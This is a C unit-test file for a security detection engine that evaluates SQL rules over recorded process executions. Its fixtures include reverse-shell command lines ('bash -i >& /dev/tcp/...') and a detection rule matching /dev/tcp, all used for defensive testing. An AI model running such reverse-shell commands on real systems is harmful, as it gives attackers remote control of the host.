/* test_engine.c: the rule engine over a real store file: incremental
 * windows (each event once), dedup, the full alert model with ancestry,
 * scheduled aggregates, the time budget disabling a runaway rule, bad
 * rules refused at load with file:line, atomic reload, overrides, the
 * built-in pack, and restart without repeats. */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

#include "engine.h"
#include "rulepack.h"
#include "store.h"

static char dir[64], path[128], rdir[128], ovr[128];
static unsigned lanes; /* de_engine_opts.lanes for open_engine() */

struct got {
	int n;
	char rule[64][64];
	char entity[64][40];
	char parent_comm[64][32];
	char grand_comm[64][32];
	char sha256[64][70];
	char container[64][70];
	char key[64][64];
	size_t n_mitre[64];
	char id[64][DE_ALERT_ID_LEN];
};

static void on_alert(const struct de_alert *a, void *ud)
{
	struct got *g = ud;
	if (g->n >= 64)
		return;
	int i = g->n++;
	snprintf(g->rule[i], sizeof(g->rule[i]), "%s", a->rule_id);
	snprintf(g->entity[i], sizeof(g->entity[i]), "%s", a->proc.entity_id ? a->proc.entity_id : "");
	snprintf(g->parent_comm[i], sizeof(g->parent_comm[i]), "%s",
		 a->parent.present && a->parent.comm ? a->parent.comm : "");
	snprintf(g->grand_comm[i], sizeof(g->grand_comm[i]), "%s",
		 a->grandparent.present && a->grandparent.comm ? a->grandparent.comm : "");
	snprintf(g->sha256[i], sizeof(g->sha256[i]), "%s", a->sha256 ? a->sha256 : "");
	snprintf(g->container[i], sizeof(g->container[i]), "%s", a->container_id ? a->container_id : "");
	snprintf(g->key[i], sizeof(g->key[i]), "%s", a->dedup_key ? a->dedup_key : "");
	g->n_mitre[i] = a->n_mitre;
	memcpy(g->id[i], a->id, DE_ALERT_ID_LEN);
}

static void write_file(const char *p, const char *text)
{
	FILE *f = fopen(p, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
}

static int setup(void **state)
{
	(void)state;
	snprintf(dir, sizeof(dir), "/tmp/de-engine-test-%d", (int)getpid());
	mkdir(dir, 0700);
	snprintf(path, sizeof(path), "%s/store.db", dir);
	snprintf(rdir, sizeof(rdir), "%s/rules.d", dir);
	snprintf(ovr, sizeof(ovr), "%s/rules.state", dir);
	return 0;
}

static int clean(void **state)
{
	(void)state;
	char cmd[256];
	snprintf(cmd, sizeof(cmd), "rm -rf %s/store.db* %s/rules.d %s/rules.state*", dir, dir, dir);
	if (system(cmd) != 0)
		return -1;
	mkdir(rdir, 0700);
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	char cmd[128];
	snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
	return system(cmd) == 0 ? 0 : -1;
}

static struct de_store *open_store(void)
{
	struct de_store_opts o = { .path = path };
	char why[256];
	struct de_store *s = de_store_open(&o, why, sizeof(why));
	if (!s)
		fail_msg("store: %s", why);
	return s;
}

static int64_t now_ns(void)
{
	struct timespec t;
	clock_gettime(CLOCK_REALTIME, &t);
	return (int64_t)t.tv_sec * 1000000000LL + t.tv_nsec;
}

/* An exec of `argv` (NUL-separated) by pid with entity tag and parent tag. */
static void add_exec(struct de_store *s, int pid, uint8_t tag, uint8_t ptag, const char *comm,
		     const char *argv, size_t argv_len)
{
	struct de_event ev;
	memset(&ev, 0, sizeof(ev));
	ev.type = DE_EV_EXEC;
	ev.source = DE_EVSRC_EBPF;
	ev.time_ns = now_ns();
	ev.pid = ev.tid = pid;
	ev.ppid = pid - 1;
	memset(ev.entity_id, tag, DE_ENTITY_ID_LEN);
	memset(ev.parent_entity_id, ptag, DE_ENTITY_ID_LEN);
	snprintf(ev.comm, sizeof(ev.comm), "%s", comm);
	ev.argv = argv;
	ev.argv_len = argv_len;
	for (size_t i = 0; i < argv_len; i++)
		ev.argc += argv[i] == 0;
	ev.filename = "/usr/bin/x";
	ev.have = DE_EVF_ARGV | DE_EVF_FILENAME | DE_EVF_PARENT | DE_EVF_CREDS | DE_EVF_HASH |
		  DE_EVF_CGROUP;
	ev.hashes.algos = DE_HASH_SHA256;
	memset(ev.hashes.sha256, 0xab, sizeof(ev.hashes.sha256));
	ev.cgroup = "/system.slice/docker-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope";
	ev.container_id = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
	assert_true(de_store_add(s, &ev) > 0);
}

#define ARGV(lit) lit, sizeof(lit)

static const char rule_tcp[] =
	"rules:\n"
	"  - id: T-TCP\n"
	"    name: dev tcp\n"
	"    severity: high\n"
	"    mitre: [T1059.004]\n"
	"    sql: SELECT entity_id, id FROM new_process_events WHERE type = 'exec'"
	" AND cmdline LIKE '%/dev/tcp/%'\n"
	"  - id: T-KEY\n"
	"    name: keyed by comm\n"
	"    severity: low\n"
	"    dedup_key: comm\n"
	"    sql: SELECT parent_entity_id AS entity_id, comm FROM new_process_events"
	" WHERE type = 'exec' AND comm GLOB 'k*'\n";

static struct de_engine *open_engine(struct de_store *s, struct got *g, uint32_t budget)
{
	static const char *dirs[2];
	dirs[0] = rdir;
	dirs[1] = NULL;
	struct de_engine_opts o = {
		.store = s,
		.store_path = path,
		.rules = { .no_builtin = true, .dirs = dirs, .overrides = ovr },
		.budget_ms = budget,
		.hostname = "test-host",
		.on_alert = on_alert,
		.ud = g,
		.lanes = lanes,
	};
	struct de_engine *e = NULL;
	char why[512];
	int rc = de_engine_open(&o, &e, why, sizeof(why));
	if (rc < 0)
		fail_msg("engine: %s", why);
	return e;
}

static int count_rows(struct de_store *s, const char *sql)
{
	sqlite3_stmt *st = NULL;
	assert_int_equal(sqlite3_prepare_v2(de_store_db(s), sql, -1, &st, NULL), SQLITE_OK);
	int n = -1;
	if (sqlite3_step(st) == SQLITE_ROW)
		n = sqlite3_column_int(st, 0);
	sqlite3_finalize(st);
	return n;
}

static void test_incremental_once_and_dedup(void **state)
{
	(void)state;
	char p[256];
	snprintf(p, sizeof(p), "%s/a.yaml", rdir);
	write_file(p, rule_tcp);
	struct de_store *s = open_store();
	struct got g = { 0 };
	struct de_engine *e = open_engine(s, &g, 0);
	assert_int_equal(de_engine_rule_count(e), 2);
	/* The loaded rules are recorded in the store. */
	assert_int_equal(count_rows(s, "SELECT count(*) FROM rule_t WHERE enabled = 1"
				      " AND length(content_blake3) = 64 AND id IN ('T-TCP', 'T-KEY')"), 2);

	add_exec(s, 100, 0x10, 0x01, "init", ARGV("init"));
	add_exec(s, 101, 0x11, 0x10, "bash", ARGV("bash\0-c\0sshd-session"));
	add_exec(s, 102, 0x12, 0x11, "bash", ARGV("bash\0-c\0bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
	assert_int_equal(de_store_commit(s), 0);
	int64_t last = de_store_last_event_id(s);
	assert_int_equal(de_engine_on_commit(e, last), 1);
	assert_int_equal(g.n, 1);
	assert_string_equal(g.rule[0], "T-TCP");
	assert_string_equal(g.entity[0], "12121212121212121212121212121212");
	assert_string_equal(g.parent_comm[0], "bash");
	assert_string_equal(g.grand_comm[0], "init");
	assert_int_equal(strlen(g.sha256[0]), 64);
	assert_int_equal(strncmp(g.sha256[0], "abab", 4), 0);
	assert_int_equal(strlen(g.container[0]), 64);
	assert_int_equal(g.n_mitre[0], 1);
	assert_int_equal(strlen(g.id[0]), 36);
	assert_int_equal(g.id[0][14], '4');
	/* Same window again: nothing new. */
	assert_int_equal(de_engine_on_commit(e, last), 0);
	assert_int_equal(de_engine_watermark(e), last);

	/* The same entity execs the same thing again: deduplicated (1h window). */
	add_exec(s, 102, 0x12, 0x11, "bash", ARGV("bash\0-c\0bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
	/* Dedup key: two children of 0x20 named k1 and one more k1 -> 2 alerts. */
	add_exec(s, 200, 0x21, 0x20, "k1", ARGV("k1"));
	add_exec(s, 201, 0x22, 0x20, "k2", ARGV("k2"));
	add_exec(s, 202, 0x23, 0x20, "k1", ARGV("k1"));
	assert_int_equal(de_store_commit(s), 0);
	assert_int_equal(de_engine_on_commit(e, de_store_last_event_id(s)), 2);
	assert_int_equal(g.n, 3);
	assert_string_equal(g.rule[1], "T-KEY");
	assert_string_equal(g.key[1], "k1");
	assert_string_equal(g.key[2], "k2");

	/* Stored: the alerts view and the full JSON. */
	assert_int_equal(count_rows(s, "SELECT count(*) FROM alerts"), 3);
	assert_int_equal(count_rows(s, "SELECT count(*) FROM alert_t WHERE json_valid(detail_json)"
				      " AND json_extract(detail_json, '$.rule.id') IS NOT NULL"
				      " OR json_extract(detail_json, '$.rule_id') IS NOT NULL"), 3);
	de_engine_close(e);

	/* Restart: the watermark is resumed, nothing is alerted twice. */
	g.n = 0;
	e = open_engine(s, &g, 0);
	assert_int_equal(de_engine_watermark(e), de_store_last_event_id(s));
	assert_int_equal(de_engine_on_commit(e, de_store_last_event_id(s)), 0);
	assert_int_equal(g.n, 0);
	de_engine_close(e);
	de_store_close(s);
}

static void test_scheduled_aggregate(void **state)
{
	(void)state;
	char p[256];
	snprintf(p, sizeof(p), "%s/agg.yaml", rdir);
	write_file(p, "id: T-AGG\nname: burst\nseverity: low\nschedule: 30s\ndedup_key: binary\n"
		      "sql: SELECT max(entity_id) AS entity_id, filename AS binary, count(*) AS n"
		      " FROM process_events WHERE type = 'exec' AND time_ns > de_now_ns() - 60e9"
		      " GROUP BY filename HAVING count(*) > 5\n");
	struct de_store *s = open_store();
	struct got g = { 0 };
	struct de_engine *e = open_engine(s, &g, 0);
	for (int i = 0; i < 6; i++)
		add_exec(s, 300 + i, (uint8_t)(0x30 + i), 0x01, "x", ARGV("x"));
	assert_int_equal(de_store_commit(s), 0);
	/* Incremental evaluation does not run scheduled rules. */
	assert_int_equal(de_engine_on_commit(e, de_store_last_event_id(s)), 0);
	int64_t t = now_ns();
	assert_int_equal(de_engine_next_due(e), 0);
	assert_int_equal(de_engine_tick(e, t), 1);
	assert_string_equal(g.rule[0], "T-AGG");
	assert_string_equal(g.key[0], "/usr/bin/x");
	/* Not due again for 30 s; when due, the same key is deduplicated. */
	assert_true(de_engine_next_due(e) >= t + 30000000000LL);
	assert_int_equal(de_engine_tick(e, t + 1000000000LL), 0);
	assert_int_equal(de_engine_tick(e, t + 31000000000LL), 0);
	assert_int_equal(g.n, 1);
	de_engine_close(e);
	de_store_close(s);
}

static void test_budget_disables_runaway(void **state)
{
	(void)state;
	char p[256];
	snprintf(p, sizeof(p), "%s/slow.yaml", rdir);
	/* Infinite recursion and a cartesian join: both compile, both run
	 * forever; the budget stops them and the engine goes on. */
	write_file(p, "rules:\n"
		      "  - id: T-LOOP\n    name: loop\n    severity: low\n"
		      "    sql: WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r)"
		      " SELECT '00' AS entity_id FROM r WHERE x < 0\n"
		      "  - id: T-CROSS\n    name: cross\n    severity: low\n"
		      "    sql: SELECT a.entity_id FROM process_events a, process_events b,"
		      " process_events c, process_events d WHERE a.id + b.id + c.id + d.id < 0\n");
	snprintf(p, sizeof(p), "%s/ok.yaml", rdir);
	write_file(p, rule_tcp);
	struct de_store *s = open_store();
	for (int i = 0; i < 200; i++)
		add_exec(s, 400 + i, (uint8_t)i, 0x01, "w", ARGV("w"));
	add_exec(s, 999, 0xee, 0x01, "bash", ARGV("bash\0-c\0x >& /dev/tcp/1.2.3.4/1"));
	assert_int_equal(de_store_commit(s), 0);
	struct got g = { 0 };
	struct de_engine *e = open_engine(s, &g, 100);
	int n = de_engine_on_commit(e, de_store_last_event_id(s));
	assert_int_equal(n, 3); /* two "rule disabled" alerts and the real match */
	int disabled = 0, tcp = 0;
	for (int i = 0; i < g.n; i++) {
		disabled += strcmp(g.rule[i], DE_ENGINE_RULE_DISABLED) == 0;
		tcp += strcmp(g.rule[i], "T-TCP") == 0;
	}
	assert_int_equal(disabled, 2);
	assert_int_equal(tcp, 1);
	for (size_t i = 0; i < de_engine_rule_count(e); i++) {
		struct de_engine_rule_info info;
		de_engine_rule_info(e, i, &info);
		if (strcmp(info.rule->id, "T-LOOP") == 0 || strcmp(info.rule->id, "T-CROSS") == 0) {
			assert_false(info.enabled);
			assert_non_null(strstr(info.disabled_why, "time budget of 100 ms exceeded"));
			assert_true(info.max_us >= 100000);
			assert_true(info.max_us < 2000000);
		} else {
			assert_true(info.enabled);
		}
	}
	assert_int_equal(count_rows(s, "SELECT count(*) FROM alerts WHERE rule_id = '"
				      DE_ENGINE_RULE_DISABLED "' AND summary LIKE 'rule T-LOOP disabled:"
				      " time budget of 100 ms exceeded%'"), 1);
	/* The engine keeps running: the next batch is evaluated. */
	add_exec(s, 1000, 0xef, 0x01, "bash", ARGV("bash\0-c\0x >& /dev/tcp/1.2.3.4/2"));
	assert_int_equal(de_store_commit(s), 0);
	assert_int_equal(de_engine_on_commit(e, de_store_last_event_id(s)), 1);
	/* A reload brings the disabled rules back. */
	char why[512];
	assert_int_equal(de_engine_reload(e, why, sizeof(why)), 4);
	struct de_engine_rule_info info;
	de_engine_rule_info(e, 2, &info);
	assert_true(info.enabled);
	de_engine_close(e);
	de_store_close(s);
}

/* Rules that must be refused at load, with the file, line, rule id and
 * the reason in the message. */
static void test_bad_rules_refused(void **state)
{
	(void)state;
	static const struct {
		const char *sql, *msg;
	} cases[] = {
		{ "DELETE FROM alerts", "rule T-BAD:" },
		{ "INSERT INTO alerts(id) VALUES('x')", "not allowed" },
		{ "ATTACH DATABASE '/tmp/x.db' AS x", "ATTACH is not allowed" },
		{ "PRAGMA table_info(alerts)", "PRAGMA is not allowed" },
		{ "SELECT load_extension('/tmp/x.so') AS entity_id", "function load_extension is not allowed" },
		{ "SELECT randomblob(10) AS entity_id", "function randomblob is not allowed" },
		{ "SELECT entity_id FROM processes; SELECT entity_id FROM processes",
		  "only one statement is allowed" },
		{ "SELECT entity_id FROM process_t", "not readable" },
		{ "SELECT foo AS entity_id FROM processes", "no such column: foo" },
		{ "SELECT pid FROM processes", "must return an entity_id column" },
		/* The engine's materialized window is writable by the engine only. */
		{ "DELETE FROM new_process_events", "not read-only" },
		{ "INSERT INTO temp.new_process_events SELECT * FROM process_events", "not read-only" },
	};
	struct de_store *s = open_store();
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char p[256], text[512];
		snprintf(p, sizeof(p), "%s/bad.yaml", rdir);
		snprintf(text, sizeof(text), "# bad\nid: T-BAD\nname: bad\nseverity: low\nsql: \"%s\"\n",
			 cases[i].sql);
		write_file(p, text);
		struct de_engine_opts o = {
			.store = s, .store_path = path,
			.rules = { .no_builtin = true, .dirs = (const char *const[]){ rdir, NULL } },
		};
		struct de_engine *e = NULL;
		char why[512] = "";
		assert_int_equal(de_engine_open(&o, &e, why, sizeof(why)), -EINVAL);
		assert_null(e);
		if (!strstr(why, cases[i].msg) || !strstr(why, "bad.yaml:2: rule T-BAD:"))
			fail_msg("case %zu (%s): got '%s'", i, cases[i].sql, why);
	}
	de_store_close(s);
}

static void test_reload_atomic_and_overrides(void **state)
{
	(void)state;
	char p[256];
	snprintf(p, sizeof(p), "%s/a.yaml", rdir);
	write_file(p, rule_tcp);
	struct de_store *s = open_store();
	struct got g = { 0 };
	struct de_engine *e = open_engine(s, &g, 0);
	assert_int_equal(de_engine_rule_count(e), 2);
	/* A bad file: the reload fails, naming it, and the old set stays. */
	snprintf(p, sizeof(p), "%s/b.yaml", rdir);
	write_file(p, "id: T-NEW\nname: n\nseverity: urgent\nsql: SELECT entity_id FROM processes\n");
	char why[512] = "";
	assert_int_equal(de_engine_reload(e, why, sizeof(why)), -EINVAL);
	assert_non_null(strstr(why, "b.yaml:3:11"));
	assert_non_null(strstr(why, "urgent"));
	assert_int_equal(de_engine_rule_count(e), 2);
	add_exec(s, 500, 0x50, 0x01, "bash", ARGV("bash\0-c\0x >& /dev/tcp/1.2.3.4/1"));
	assert_int_equal(de_store_commit(s), 0);
	assert_int_equal(de_engine_on_commit(e, de_store_last_event_id(s)), 1);
	/* Duplicate id across files: refused with both places. */
	write_file(p, "id: T-TCP\nname: n\nseverity: low\nsql: SELECT entity_id FROM processes\n");
	assert_int_equal(de_engine_reload(e, why, sizeof(why)), -EINVAL);
	assert_non_null(strstr(why, "duplicate rule id"));
	assert_non_null(strstr(why, "a.yaml:2"));
	/* Fixed: three rules; then disabled through the overrides file. */
	write_file(p, "id: T-NEW\nname: n\nseverity: low\nsql: SELECT entity_id FROM"
		      " new_process_events WHERE comm = 'none'\n");
	assert_int_equal(de_engine_reload(e, why, sizeof(why)), 3);
	assert_int_equal(de_rule_override_set(ovr, "T-TCP", false, why, sizeof(why)), 0);
	assert_int_equal(de_rule_override_set(ovr, "T-KEY", false, why, sizeof(why)), 0);
	assert_int_equal(de_rule_override_set(ovr, "T-KEY", true, why, sizeof(why)), 0);
	assert_int_equal(de_engine_reload(e, why, sizeof(why)), 3);
	for (size_t i = 0; i < de_engine_rule_count(e); i++) {
		struct de_engine_rule_info info;
		de_engine_rule_info(e, i, &info);
		assert_int_equal(info.enabled, strcmp(info.rule->id, "T-TCP") != 0);
	}
	add_exec(s, 501, 0x51, 0x01, "bash", ARGV("bash\0-c\0x >& /dev/tcp/1.2.3.4/1"));
	assert_int_equal(de_store_commit(s), 0);
	assert_int_equal(de_engine_on_commit(e, de_store_last_event_id(s)), 0);
	/* A malformed overrides file is an error with its line. */
	write_file(ovr, "T-TCP enabled\nT-KEY maybe\n");
	assert_int_equal(de_engine_reload(e, why, sizeof(why)), -EINVAL);
	assert_non_null(strstr(why, "rules.state:2:"));
	de_engine_close(e);
	de_store_close(s);
}

static void test_builtin_pack(void **state)
{
	(void)state;
	struct de_store *s = open_store();
	struct de_engine_opts o = { .store = s, .store_path = path };
	struct de_engine *e = NULL;
	char why[512] = "";
	int rc = de_engine_open(&o, &e, why, sizeof(why));
	if (rc < 0)
		fail_msg("built-in pack: %s", why);
	size_t n = de_engine_rule_count(e);
	assert_true(n >= 30);
	for (size_t i = 0; i < n; i++) {
		struct de_engine_rule_info info;
		de_engine_rule_info(e, i, &info);
		assert_true(info.rule->mitre.n >= 1);
		assert_true(info.enabled);
		assert_non_null(strstr(info.rule->file, "builtin/"));
	}
	/* An empty store: every rule runs, nothing matches. */
	add_exec(s, 600, 0x60, 0x01, "ls", ARGV("ls\0-l"));
	assert_int_equal(de_store_commit(s), 0);
	assert_int_equal(de_engine_on_commit(e, de_store_last_event_id(s)), 0);
	assert_int_equal(de_engine_tick(e, now_ns()), 0);
	de_engine_close(e);
	de_store_close(s);
}

/* The events of test_split_window: N execs by distinct processes, the
 * children of 50 parents, comm k0..k6, every third a /dev/tcp line. */
#define SPLIT_EVENTS 4100

static void add_split_events(struct de_store *s)
{
	struct de_event ev;
	for (int i = 0; i < SPLIT_EVENTS; i++) {
		char comm[8], argv[64];
		snprintf(comm, sizeof(comm), "k%d", i % 7);
		int len = snprintf(argv, sizeof(argv), "%s%c-c%c%s", comm, 0, 0,
				   i % 3 ? "true" : "x >& /dev/tcp/10.0.0.1/1");
		memset(&ev, 0, sizeof(ev));
		ev.type = DE_EV_EXEC;
		ev.source = DE_EVSRC_EBPF;
		ev.time_ns = now_ns();
		ev.pid = ev.tid = 10000 + i;
		ev.ppid = 1;
		uint32_t id = (uint32_t)i + 1, pid = (uint32_t)(i % 50) + 100000;
		memcpy(ev.entity_id, &id, sizeof(id));
		memcpy(ev.parent_entity_id, &pid, sizeof(pid));
		snprintf(ev.comm, sizeof(ev.comm), "%s", comm);
		ev.argv = argv;
		ev.argv_len = (size_t)len + 1;
		ev.argc = 3;
		ev.filename = "/usr/bin/x";
		ev.have = DE_EVF_ARGV | DE_EVF_FILENAME | DE_EVF_PARENT | DE_EVF_CREDS;
		assert_true(de_store_add(s, &ev) > 0);
	}
	assert_int_equal(de_store_commit(s), 0);
}

/* Every (rule, entity, dedup key) alerted, in order, as one string. */
static char *alert_set(struct de_store *s)
{
	sqlite3_stmt *st = NULL;
	assert_int_equal(sqlite3_prepare_v2(de_store_db(s),
		"SELECT group_concat(x, ';') FROM (SELECT rule_id || ',' || coalesce(entity_id, '')"
		" || ',' || coalesce(dedup_key, '') AS x FROM alerts ORDER BY x)", -1, &st, NULL),
		SQLITE_OK);
	assert_int_equal(sqlite3_step(st), SQLITE_ROW);
	char *r = strdup((const char *)sqlite3_column_text(st, 0));
	sqlite3_finalize(st);
	return r;
}

/* A big window split across two lanes alerts exactly as one lane does:
 * the same matches, dedup across the lanes' chunks, more matches than the
 * helper's queue holds, and a runaway rule disabled once with one alert. */
static void test_split_window(void **state)
{
	(void)state;
	static const char more[] =
		"rules:\n"
		"  - id: T-ALL\n    name: every exec\n    severity: info\n"
		"    sql: SELECT entity_id, id FROM new_process_events WHERE type = 'exec'\n"
		"  - id: T-LOOP\n    name: loop\n    severity: low\n"
		"    sql: WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r)"
		" SELECT '00' AS entity_id FROM r WHERE x < 0\n";
	char *sets[2];
	for (int run = 0; run < 2; run++) {
		char p[256];
		assert_int_equal(clean(NULL), 0);
		snprintf(p, sizeof(p), "%s/a.yaml", rdir);
		write_file(p, rule_tcp);
		snprintf(p, sizeof(p), "%s/b.yaml", rdir);
		write_file(p, more);
		lanes = run ? 2 : 1;
		struct de_store *s = open_store();
		add_split_events(s);
		struct got g = { 0 };
		struct de_engine *e = open_engine(s, &g, 1000);
		int n = de_engine_on_commit(e, de_store_last_event_id(s));
		/* every exec, every third, 50 parents x 7 names, one disabled */
		int want = SPLIT_EVENTS + (SPLIT_EVENTS + 2) / 3 + 350 + 1;
		assert_int_equal(n, want);
		assert_int_equal(count_rows(s, "SELECT count(*) FROM alerts"), want);
		assert_int_equal(count_rows(s, "SELECT count(*) FROM alerts WHERE rule_id = '"
					      DE_ENGINE_RULE_DISABLED "'"), 1);
		for (size_t i = 0; i < de_engine_rule_count(e); i++) {
			struct de_engine_rule_info info;
			de_engine_rule_info(e, i, &info);
			bool loop = strcmp(info.rule->id, "T-LOOP") == 0;
			assert_int_equal(info.enabled, !loop);
			/* two lanes: the window went in chunks, each rule ran per chunk */
			if (run && !loop)
				assert_int_equal(info.runs, SPLIT_EVENTS / 1024);
			if (!run)
				assert_int_equal(info.runs, 1);
		}
		sets[run] = alert_set(s);
		de_engine_close(e);
		de_store_close(s);
	}
	assert_string_equal(sets[0], sets[1]);
	free(sets[0]);
	free(sets[1]);
	lanes = 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup(test_incremental_once_and_dedup, clean),
		cmocka_unit_test_setup(test_scheduled_aggregate, clean),
		cmocka_unit_test_setup(test_budget_disables_runaway, clean),
		cmocka_unit_test_setup(test_bad_rules_refused, clean),
		cmocka_unit_test_setup(test_reload_atomic_and_overrides, clean),
		cmocka_unit_test_setup(test_builtin_pack, clean),
		cmocka_unit_test_setup(test_split_window, clean),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
